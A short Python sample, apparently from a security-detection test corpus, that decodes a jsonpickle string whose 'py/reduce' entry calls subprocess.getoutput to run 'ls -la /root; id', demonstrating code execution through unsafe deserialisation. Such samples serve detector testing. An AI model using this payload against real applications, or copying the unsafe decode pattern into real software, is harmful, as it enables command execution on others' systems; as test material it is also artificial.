# scenario: 23 unsafe-deserialisation
# expect: process.spawn_shell
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# Restores an object from JSON with jsonpickle; the document names subprocess.getoutput.
import jsonpickle

doc = '{"py/reduce": [{"py/function": "subprocess.getoutput"}, {"py/tuple": ["ls -la /root; id"]}]}'
print(jsonpickle.decode(doc))
